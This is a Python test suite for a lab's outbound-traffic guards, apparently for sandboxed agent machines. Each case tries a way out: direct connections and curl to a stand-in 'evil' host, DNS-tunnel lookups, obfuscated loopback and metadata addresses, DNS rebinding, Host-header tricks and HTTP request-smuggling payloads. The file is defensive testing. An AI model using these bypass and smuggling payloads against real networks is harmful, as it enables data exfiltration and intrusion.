"""Egress: everything that leaves a machine but by what its card lists."""

from guards import (CALL_FILTER, CUT, FAMILIES, HOST_FILTER, IP_DENY, ISOLATION, NO_ROUTE, MANAGEMENT, POLICY, PORT_FILTER, PRIVATE, PRIVATE_NETWORK, PROXY_FILTER,
                    SERVER_NAME, STRICT_PROXY, UNPRIVILEGED)
from lab import BROKER, EVIL, GATEWAY, LAN_DEVICE, LAN_HOST, LISTED, METADATA, NAMESERVER, PROXY, TOOLS, exchange, tls_get, tls_inside
from suite import case

# Around the proxy: straight to an address. Each layer suffices.
OUTSIDE = NO_ROUTE, IP_DENY, PORT_FILTER, HOST_FILTER
# The gateway is what machines may speak to, so only the two filters know which ports.
TO_HOST = PORT_FILTER, HOST_FILTER

GET = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


def direct(name, address, port, guards):
    case(name, *guards)(lambda lab: b"from " in lab.attacker.send(GET, port, address, timeout=4))


for address, port, what, guards in (
        (EVIL, 80, "HTTP to the internet without the proxy", OUTSIDE),
        (EVIL, 443, "port 443 of the internet without the proxy", OUTSIDE),
        (EVIL, 22, "SSH to the internet", OUTSIDE),
        (EVIL, 53, "DNS over TCP", OUTSIDE),
        (EVIL, 853, "DNS over TLS", OUTSIDE),
        (LISTED, 80, "a listed host without the proxy", OUTSIDE),
        (METADATA, 80, "the metadata address", OUTSIDE),
        (LAN_HOST, 80, "the host's address in its LAN", OUTSIDE),
        ("203.0.113.1", 8888, "the host's other address", OUTSIDE),
        (LAN_DEVICE, 80, "a device in the host's LAN", OUTSIDE),
        (GATEWAY, 8888, "another port of the gateway", TO_HOST),
        (GATEWAY, 80, "port 80 of the gateway", TO_HOST),
        (GATEWAY, 443, "port 443 of the gateway", TO_HOST)):
    if port != 443:
        direct(f"TCP: {what}", address, port, guards)
    else:
        def attack(lab, address=address):
            with lab.attacker.open(address, 443) as connection:
                return b"from " in tls_get(connection, "x.test")
        case(f"TCP: {what}", *guards)(attack)


@case("TCP: a neighbour's machine", NO_ROUTE, IP_DENY, PORT_FILTER, ISOLATION)
def _(lab):
    return b"from neighbour" in lab.attacker.send(b"GET /index.html HTTP/1.0\r\n\r\n", 8000, lab.neighbour.address)


for what, command in {
        "curl without them": ["env", "-i", "PATH=/usr/bin:/bin", "/usr/bin/curl", "-s", "-m", "4", f"http://{EVIL}/"],
        "curl told to go straight": ["/usr/bin/curl", "-s", "-m", "4", "--noproxy", "*", f"http://{EVIL}/"],
        "curl by TLS": ["/usr/bin/curl", "-s", "-k", "-m", "4", "--noproxy", "*", f"https://{EVIL}/"]}.items():
    case(f"the proxy variables are ignored: {what}", *OUTSIDE)(lambda lab, command=command: "from evil" in lab.attacker.run(*command))


@case("the proxy variables are ignored: git", *OUTSIDE)
def _(lab):
    token = lab.token()
    lab.attacker.run(TOOLS + "busybox", "timeout", "5", "env", "-i", "PATH=/usr/bin:/bin", "HOME=/tmp", "git", "-c", "http.proxy=", "ls-remote",
                     f"http://{EVIL}/{token}")
    return any(token in request.start for server in lab.evil for request in list(server.requests.queue))


# Datagrams

for port, what in ((443, "QUIC"), (53, "port 53"), (123, "port 123"), (9999, "any port")):
    def attack(lab, port=port):
        token = lab.token()
        lab.attacker.wire("udp", EVIL, port, token)
        return lab.datagrams.saw(token)
    case(f"UDP: {what}", *OUTSIDE)(attack)

for address, port, what, guards in ((GATEWAY, 9999, "the gateway", TO_HOST), (GATEWAY, 5353, "mDNS at the gateway", TO_HOST),
                                    (METADATA, 53, "DNS at the metadata address", OUTSIDE), (LAN_HOST, 9999, "the host's LAN address", OUTSIDE),
                                    (LAN_DEVICE, 9999, "a device in the LAN", OUTSIDE)):
    def attack(lab, address=address, port=port):
        token = lab.token()
        lab.attacker.wire("udp", address, port, token)
        return lab.datagrams.saw(token)
    case(f"UDP: {what}", *guards)(attack)


@case("UDP: a neighbour's machine", NO_ROUTE, IP_DENY, PORT_FILTER, ISOLATION)
def _(lab):
    token = lab.token()
    lab.attacker.wire("udp", lab.neighbour.address, 9999, token)
    return lab.neighbour_port.saw(token.encode())


@case("UDP-Lite", CALL_FILTER, *OUTSIDE)
def _(lab):
    token = lab.token()
    lab.attacker.wire("udp-lite", EVIL, 9999, token)
    return lab.wire_out.saw(token.encode())


@case("DNS tunnel: a query straight to a name server", *OUTSIDE)
def _(lab):
    token = lab.token()
    lab.attacker.run(TOOLS + "busybox", "timeout", "3", TOOLS + "busybox", "nslookup", f"{token}.evil.test", NAMESERVER)
    return lab.resolver.saw(token)


@case("DNS tunnel: a query to the gateway", *TO_HOST)
def _(lab):
    token = lab.token()
    lab.attacker.run(TOOLS + "busybox", "timeout", "3", TOOLS + "busybox", "nslookup", f"{token}.evil.test", GATEWAY)
    return lab.datagrams.saw(token)


for name, to, guards in (("the internet", EVIL, (CALL_FILTER, UNPRIVILEGED, *OUTSIDE)), ("the gateway", GATEWAY, (CALL_FILTER, UNPRIVILEGED, *TO_HOST)),
                         ("a device in the LAN", LAN_DEVICE, (CALL_FILTER, UNPRIVILEGED, *OUTSIDE))):
    case(f"ICMP: {name}", *guards)(lambda lab, to=to: "reply" in lab.attacker.wire("ping", to))


@case("ICMP: a neighbour's machine", CALL_FILTER, UNPRIVILEGED, NO_ROUTE, IP_DENY, PORT_FILTER, ISOLATION)
def _(lab):
    return "reply" in lab.attacker.wire("ping", lab.neighbour.address)


for protocol, what in ((47, "GRE"), (4, "IP in IP"), (253, "a protocol for experiments")):
    def attack(lab, protocol=protocol):
        token = lab.token()
        lab.attacker.wire("raw", EVIL, protocol, token)
        return lab.wire_out.saw(token.encode())
    case(f"raw IP socket: {what}", CALL_FILTER, UNPRIVILEGED, *OUTSIDE)(attack)

IPV6 = FAMILIES, CALL_FILTER, IP_DENY, PORT_FILTER, HOST_FILTER


@case("IPv6: UDP to the host's link-local address", *IPV6)
def _(lab):
    token = lab.token()
    lab.attacker.wire("udp", "fe80::a%host0", 9998, token)
    return lab.datagrams.saw(token)


@case("IPv6: UDP to all nodes", *IPV6)
def _(lab):
    token = lab.token()
    lab.attacker.wire("udp", "ff02::1%host0", 9998, token)
    return lab.datagrams.saw(token)


# What isn't the network


@case("vsock: a service of the host", FAMILIES, CALL_FILTER)
def _(lab):
    return "from secret" in lab.attacker.wire("vsock", 1, 9997)


@case("abstract unix socket: a service of the host", PRIVATE_NETWORK)
def _(lab):
    return "from secret" in lab.attacker.wire("abstract", "attack-secret")


@case("abstract unix socket: the names of the host's", PRIVATE_NETWORK)
def _(lab):
    return "@attack-secret" in lab.attacker.run("cat", "/proc/net/unix")


# Names and addresses at the proxy. Plain HTTP shows best where one gets.

REACHED_INSIDE = b"from secret"
INSIDE = POLICY, PRIVATE, PROXY_FILTER


def url_case(name, url, *guards, wanted=b"from evil", **how):
    case(name, *guards)(lambda lab: wanted in lab.attacker.get(url, **how))


for spelling in ("127.0.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001", "127.1", "127.0.1", "0.0.0.0",
                 "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[fd00::9]",
                 "[2002:7f00:1::1]", "100.64.0.9", METADATA, "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.16689662", LAN_DEVICE, LAN_HOST,
                 GATEWAY, "localhost", "127.0.0.1:8888"):
    url_case(f"address at the proxy: {spelling}", f"http://{spelling}/", *INSIDE, wanted=REACHED_INSIDE)
url_case("address at the proxy: a public one", f"http://{EVIL}/", POLICY)
url_case("address at the proxy: a public one, in hex", "http://0xc0000242/", POLICY)


@case("address at the proxy: CONNECT to 127.0.0.1", *INSIDE, SERVER_NAME)
def _(lab):
    return REACHED_INSIDE in lab.attacker.tunnel("127.0.0.1:443")


@case("address at the proxy: CONNECT to [::1]", *INSIDE, SERVER_NAME)
def _(lab):
    return REACHED_INSIDE in lab.attacker.tunnel("[::1]:443")


for name in ("loopback", "metadata", "mixed", "six", "mapped", "nat64", "unique", "gateway", "lan", "cgnat", "six-to-four", "zero"):
    url_case(f"a listed name that resolves inside: {name}", f"http://{name}.fake.test/", PRIVATE, PROXY_FILTER, wanted=REACHED_INSIDE)
for name in ("loopback", "metadata", "lan"):
    case(f"a listed name that resolves inside, by CONNECT: {name}", PRIVATE, PROXY_FILTER)(
        lambda lab, name=name: REACHED_INSIDE in lab.attacker.tunnel(f"{name}.fake.test:443", f"{name}.fake.test"))


@case("rebinding: the second answer is inside", PRIVATE, PROXY_FILTER, serial=False)
def _(lab):
    name = f"{lab.token()}.wild.test"
    lab.resolver.names[name] = [[LISTED], ["127.0.0.1"]]
    first = lab.attacker.get(f"http://{name}/")
    if b"from api" not in first:
        raise RuntimeError(f"a listed name is not reached: {first!r}")
    for _ in range(20):
        # Squid keeps an answer for five seconds at least.
        lab.pause(1)
        answer = lab.attacker.get(f"http://{name}/")
        if b"from api" not in answer:
            return REACHED_INSIDE in answer
    return False


@case("rebinding: between the tunnel and what goes through it", PRIVATE, PROXY_FILTER)
def _(lab):
    # Squid looks a name up to judge it and once more to connect; without its rule, only the latter.
    for answers in ([LISTED], ["127.0.0.1"]), (["127.0.0.1"],):
        name = f"{lab.token()}.wild.test"
        lab.resolver.names[name] = list(answers)
        with lab.attacker.open() as connection:
            head = exchange(connection, f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode(), b"\r\n\r\n")
            if b" 200 " in head:
                lab.pause(6 * (len(answers) - 1))
                if REACHED_INSIDE in tls_get(connection, name):
                    return True
            elif len(answers) > 1:
                raise RuntimeError(f"a listed name is not reached: {head!r}")
    return False


# Policy before any lookup

for what, attack in {
        "CONNECT": lambda lab, token: lab.attacker.tunnel(f"{token}.evil.test:443"),
        "a plain request": lambda lab, token: lab.attacker.get(f"http://{token}.evil.test/"),
        "a POST": lambda lab, token: lab.attacker.get(f"http://{token}.evil.test/", method="POST", body=b"x"),
        "a listed name on a port that isn't": lambda lab, token: lab.attacker.tunnel(f"{token}.wild.test:8443"),
        "below a listed name without a wildcard": lambda lab, token: lab.attacker.get(f"http://{token}.api.fake.test/"),
        "https:// in a request": lambda lab, token: lab.attacker.get(f"https://{token}.evil.test/"),
        "ftp:// in a request": lambda lab, token: lab.attacker.get(f"ftp://{token}.evil.test/"),
        "many labels": lambda lab, token: lab.attacker.get(f"http://{'.'.join([token] * 4)}.evil.test/"),
        "a bare word": lambda lab, token: lab.attacker.get(f"http://{token}/")}.items():
    def tunnels(lab, attack=attack):
        token = lab.token()
        attack(lab, token)
        return lab.resolver.saw(token)
    case(f"DNS tunnel through the proxy: {what}", POLICY)(tunnels)

# Names that are listed almost

for what, url in {
        "an unlisted host": "http://evil.test/", "with a trailing dot": "http://evil.test./", "in upper case": "http://EVIL.TEST/",
        "a listed name in front": "http://api.fake.test.evil.test/", "a listed name glued in": "http://evilapi.fake.test/",
        "a hyphen for the dot": "http://x-wild.test/", "a listed name's parent": "http://fake.test/", "a wildcard's parent": "http://test/",
        "a lookalike in punycode": "http://xn--pi-7kc.fake.test/", "an underscore": "http://_api.fake.test/",
        "as long as a name may be": "http://" + "a" * 60 + "." + "b" * 60 + "." + "c" * 60 + ".api.fake.test.evil.test/",
        "a listed user": "http://api.fake.test@evil.test/", "a listed user with password": "http://api.fake.test:80@evil.test/",
        "a listed query": "http://evil.test/?api.fake.test", "a listed fragment": "http://evil.test/#@api.fake.test/",
        "another port": "http://evil.test:8080/"}.items():
    url_case(f"an unlisted name: {what}", url, POLICY)
for header in ("X-Forwarded-Host: api.fake.test", "X-Forwarded-For: 10.213.0.3", "Forwarded: for=10.213.0.3;host=api.fake.test",
               "Proxy-Authorization: Basic YXBpLmZha2UudGVzdDp4"):
    url_case(f"an unlisted name: with {header.split(':')[0]}", "http://evil.test/", POLICY, headers=(header,))


@case("an unlisted name: where a listed one redirects to", POLICY)
def _(lab):
    return "from evil" in lab.attacker.run("/usr/bin/curl", "-s", "-k", "-L", "-m", "20", "-x", f"http://{GATEWAY}:{PROXY}", "http://api.fake.test/redirect")


@case("an unlisted name: by CONNECT", POLICY)
def _(lab):
    return b"from evil" in lab.attacker.tunnel("evil.test:443", "evil.test")


url_case("a listed name on another port", "http://api.fake.test:8443/", POLICY, wanted=b"from api")
url_case("a listed name on port 22", "http://api.fake.test:22/", POLICY, wanted=b"from api")
url_case("a listed name with another method", "http://getonly.fake.test/", POLICY, wanted=b"from api", method="POST", body=b"x")
url_case("a name that is listed for TLS only", "http://narrow.fake.test/", POLICY, wanted=b"from api")


def bytes_case(name, data, *guards, wanted=b"from evil"):
    case(name, *guards)(lambda lab: wanted in lab.attacker.send(data))


for what, host in {
        "NUL": b"evil.test\0.api.fake.test", "an encoded NUL": b"evil.test%00.api.fake.test", "a carriage return": b"evil.test\r.api.fake.test",
        "a space": b"evil.test .api.fake.test", "a tab": b"evil.test\t.api.fake.test",
        "a lookalike of a dot": "evil\uff0etest#api.fake.test".encode(), "another lookalike of a dot": "evil\u2024test#api.fake.test".encode(),
        "wide letters": "\uff45\uff56\uff49\uff4c.test#api.fake.test".encode(), "an encoded @": b"api.fake.test%40evil.test",
        "a backslash": b"evil.test\\api.fake.test", "an encoded new line": b"evil.test%0d%0a.api.fake.test",
        "a lookalike of @": "api.fake.test\uff20evil.test".encode(),
        "letters of another alphabet": "ev\u0131l.test#api.fake.test".encode(),
        "too long a name": b"a." * 600 + b"api.fake.test@evil.test"}.items():
    bytes_case(f"an unlisted name: with {what}", b"GET http://" + host + b"/ HTTP/1.1\r\nHost: api.fake.test\r\nConnection: close\r\n\r\n", STRICT_PROXY)


bytes_case("an unlisted name: with a new line in the request", b"GET http://evil.test/\r\nX: api.fake.test HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
           STRICT_PROXY)


@case("CONNECT with a new line and another host", STRICT_PROXY)
def _(lab):
    with lab.attacker.open() as connection:
        head = exchange(connection, b"CONNECT evil.test:443\nX: api.fake.test HTTP/1.1\r\nHost: evil.test:443\r\n\r\n", b"\r\n\r\n")
        return b" 200 " in head and b"from evil" in tls_get(connection, "evil.test")


@case("CONNECT to an unlisted host with a listed Host", STRICT_PROXY)
def _(lab):
    with lab.attacker.open() as connection:
        head = exchange(connection, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: api.fake.test:443\r\n\r\n", b"\r\n\r\n")
        return b" 200 " in head and b"from evil" in tls_get(connection, "evil.test")


# Inside a tunnel

for what, server_name in {"another host's": "evil.test", "none": None, "a listed neighbour's": "a.wild.test", "a longer one": "x.api.fake.test",
                          "one with a listed end": "evilapi.fake.test", "with a trailing dot": "api.fake.test."}.items():
    case(f"TLS server name: {what}", SERVER_NAME)(
        lambda lab, server_name=server_name: b"from api" in lab.attacker.tunnel("api.fake.test:443", server_name))


@case("a tunnel for something else than TLS", SERVER_NAME)
def _(lab):
    with lab.attacker.open() as connection:
        exchange(connection, b"CONNECT raw.fake.test:8443 HTTP/1.1\r\nHost: raw.fake.test:8443\r\n\r\n", b"\r\n\r\n")
        return b"from api" in exchange(connection, GET)


# More than one request

KEEP = b"GET http://api.fake.test/ HTTP/1.1\r\nHost: api.fake.test\r\n\r\n"
bytes_case("a second request on the connection", KEEP + b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", POLICY)
bytes_case("a second request behind a body", b"POST http://api.fake.test/ HTTP/1.1\r\nHost: api.fake.test\r\nContent-Length: 3\r\n\r\nabc"
           b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", POLICY)
bytes_case("a second request: CONNECT", KEEP + b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n" + GET, POLICY, SERVER_NAME)
bytes_case("a second request behind an upgrade", b"GET http://api.fake.test/ HTTP/1.1\r\nHost: api.fake.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
           b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", POLICY)
bytes_case("a second request, judged by the first", KEEP + b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", STRICT_PROXY)


def smuggled(name, head, before=b"0\r\n\r\n", line=b"POST http://getonly.fake.test/%s HTTP/1.1\r\nHost: getonly.fake.test\r\nContent-Length: 0\r\n\r\n"):
    """Success: the server of a host that is listed for GET alone was sent a POST."""
    def attack(lab):
        token = lab.token().encode()
        body = before + line % token
        lab.attacker.send(b"GET http://getonly.fake.test/ HTTP/1.1\r\nHost: getonly.fake.test\r\n" + head % len(body) + b"\r\n\r\n" + body, timeout=3)
        return any(request.start.startswith("POST ") and token.decode() in request.start
                   for server in lab.api for request in list(server.requests.queue))
    case(f"request smuggling: {name}", STRICT_PROXY)(attack)


smuggled("length and chunks", b"Content-Length: %d\r\nTransfer-Encoding: chunked")
smuggled("chunks and length", b"Transfer-Encoding: chunked\r\nContent-Length: %d")
smuggled("a header in upper case", b"Content-Length: %d\r\nTRANSFER-ENCODING: chunked")
smuggled("two codings", b"Content-Length: %d\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked")
smuggled("chunks after a tab", b"Content-Length: %d\r\nTransfer-Encoding:\tchunked")
smuggled("two lengths", b"Content-Length: 0\r\nContent-Length: %d", before=b"")
smuggled("a space before the colon", b"Content-Length: %d\r\nTransfer-Encoding : chunked")
smuggled("bare line feeds", b"Content-Length: %d\nTransfer-Encoding: chunked")
smuggled("a sign before the length", b"Content-Length: +%d\r\nTransfer-Encoding: chunked")

bytes_case("two Hosts", b"GET / HTTP/1.1\r\nHost: api.fake.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n", STRICT_PROXY)
bytes_case("two Hosts and a URL", b"GET http://api.fake.test/ HTTP/1.1\r\nHost: api.fake.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n", STRICT_PROXY)
bytes_case("a Host in another case", b"GET / HTTP/1.1\r\nHost: api.fake.test\r\nhOST: evil.test\r\nConnection: close\r\n\r\n", STRICT_PROXY)
bytes_case("a listed Host and another URL", b"GET http://evil.test/ HTTP/1.1\r\nHost: api.fake.test\r\nConnection: close\r\n\r\n", POLICY)
bytes_case("a request without a URL", b"GET / HTTP/1.1\r\nHost: evil.test, api.fake.test, evil.test\r\nX: @\r\nConnection: close\r\n\r\n", STRICT_PROXY)


@case("a listed URL and another Host", STRICT_PROXY)
def _(lab):
    token = lab.token()
    lab.attacker.send(f"GET http://api.fake.test/{token} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n".encode())
    return any(token in request.start and "evil.test" in request.all("host") for server in lab.api for request in list(server.requests.queue))


# The proxy itself

for url, what in {"menu": b"Cache Manager Menu", "info": b"Start Time", "active_requests": b"Connection: 0x", "mem": b"Pool"}.items():
    url_case(f"proxy management: {url}", f"http://agentmachine-proxy:{PROXY}/squid-internal-mgr/{url}", POLICY, MANAGEMENT, wanted=what)


@case("the broker as a proxy", POLICY)
def _(lab):
    # On the proxy's port the same request is what the policy refuses.
    broker = lab.attacker.get("http://evil.test/", port=BROKER)
    return b"from evil" in broker or b"from evil" in lab.attacker.get("http://evil.test/")


for what, card in {"an empty host list": {"allowed_hosts": []}, "another list": {"allowed_hosts": ["other.fake.test"]}}.items():
    case(f"{what}: a host of another machine", POLICY, card=card)(lambda lab: b"from api" in lab.attacker.get("http://api.fake.test/"))
    case(f"{what}: by CONNECT", POLICY, card=card)(lambda lab: b"from api" in lab.attacker.tunnel("api.fake.test:443", "api.fake.test"))


RELAYED = b"GET http://relayed.evil.test/ HTTP/1.0\r\n\r\n"


@case("a relay inside the machine", POLICY)
def _(lab):
    # Another process of the machine that forwards is the same source.
    port = 20000 + int(lab.token().split("x")[1]) % 10000
    with lab.attacker.kept("relay", port, GATEWAY, PROXY) as first_line:
        first_line(10)
        return b"from evil" in lab.attacker.send(RELAYED, port, "127.0.0.1")


@case("a relay in a neighbour that may more", NO_ROUTE, IP_DENY, PORT_FILTER, ISOLATION)
def _(lab):
    port = 20000 + int(lab.token().split("x")[1]) % 10000
    with lab.neighbour.kept("relay", port, GATEWAY, PROXY) as first_line:
        first_line(10)
        if b"from evil" not in lab.neighbour.send(RELAYED, port, "127.0.0.1"):
            raise RuntimeError("the neighbour's relay doesn't work")
        return b"from evil" in lab.attacker.send(RELAYED, port, lab.neighbour.address)


# A policy that is tightened

TIGHTENED = "gone.fake.test:80,443"
TIGHTER = {"allowed_hosts": [TIGHTENED, "api.fake.test:80,443"]}


@case("tightened policy: the next request of an open connection", POLICY, card=TIGHTER, serial=True)
def _(lab):
    with lab.attacker.open() as connection, lab.denied(lab.attacker, TIGHTENED, cut=False) as deny:
        ask = b"GET http://gone.fake.test/ HTTP/1.1\r\nHost: gone.fake.test\r\n\r\n"
        if b"from api" not in exchange(connection, ask, b"from api"):
            raise RuntimeError("a listed host is not reached")
        deny()
        return b"from api" in exchange(connection, ask + GET)


@case("tightened policy: an open tunnel", CUT, card=TIGHTER, serial=True)
def _(lab):
    ask = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    with lab.attacker.open() as connection, lab.denied(lab.attacker, TIGHTENED, cut=lab.cuts) as deny:
        exchange(connection, b"CONNECT gone.fake.test:443 HTTP/1.1\r\nHost: gone.fake.test:443\r\n\r\n", b"\r\n\r\n")
        with tls_inside(connection, "gone.fake.test") as inner:
            if b"from api" not in exchange(inner, ask, b"from api"):
                raise RuntimeError("a listed host is not reached")
            deny()
            return b"from api" in exchange(inner, ask, b"from api")
